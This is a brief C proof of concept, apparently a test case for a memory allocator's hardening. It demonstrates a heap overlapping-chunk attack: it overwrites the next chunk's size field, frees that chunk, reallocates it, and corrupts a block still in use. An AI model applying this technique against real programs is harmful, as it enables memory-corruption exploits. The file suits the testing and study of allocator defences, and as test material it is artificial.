/*
 * metadata: an overflow upwards writes the whole size of the next chunk. It is freed, and comes
 * back together with the block behind it, which is still in use.
 */
#include "attack.h"

int main(void) {
  settle(136);
  Word *first = allocate(136), *second = allocate(136), *victim = allocate(136);
  allocate(136);
  victim[0] = 7;
  first[17] = 2 * 144 | 1; /* the size of the second chunk: that of two */
  release((void *)second);
  Word *taken = allocate(2 * 144 - 8);
  if (taken) taken[18] = 42;
  return victim[0] == 42 ? GOAL_REACHED : 0;
}
